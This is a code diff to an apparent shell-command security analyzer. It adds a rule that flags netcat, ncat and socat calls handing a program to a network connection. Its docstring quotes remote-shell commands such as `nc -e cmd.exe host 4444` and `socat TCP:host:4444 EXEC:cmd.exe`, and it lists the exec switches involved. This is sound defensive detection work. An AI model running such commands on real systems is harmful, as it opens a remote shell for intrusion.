@@ -704,8 +704,28 @@ def _tunnel_service(op: Operation) -> Effects:
     return (weakening("remote-access", None, f"{op.name} {' '.join(words[:2])}".strip()),)
 
 
+# netcat's and ncat's switches that hand a program's input and output to the connection (S-RULE-158).
+_NETCAT_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
+
+
+def _netcat(op: Operation) -> Effects:
+    """`nc -e cmd.exe host 4444`, `ncat -l 4444 --sh-exec cmd`, `socat TCP:host:4444 EXEC:cmd.exe`: a shell (or
+    any program) handed to whoever is at the other end of a connection — a remote shell on this machine, as a
+    tunnel into it is (S-RULE-158). netcat's other uses (a port test, a file sent) are judged elsewhere."""
+    words = [lower(w) for w in argv_of(op).words if w is not None]
+    if op.name == "socat":
+        found = any(w.startswith(("exec:", "system:")) for w in words)
+    else:
+        found = any(
+            w in _NETCAT_EXEC or w.partition("=")[0] in _NETCAT_EXEC or (w[:1] == "-" and w[1:2] != "-" and "e" in w)
+            for w in words
+        )
+    return (weakening("remote-access", None, f"{op.name} (a program handed to a network connection)"),) if found else ()
+
+
 SECURITY_PROGRAMS: Mapping[str, Handler] = {
     "ssh": _ssh_tunnel,
+    **dict.fromkeys(("nc", "ncat", "netcat", "nc64", "socat"), _netcat),
     "plink": _ssh_tunnel,
     **dict.fromkeys(_TUNNEL_VERBS, _tunnel_service),
     "logman": _logman,
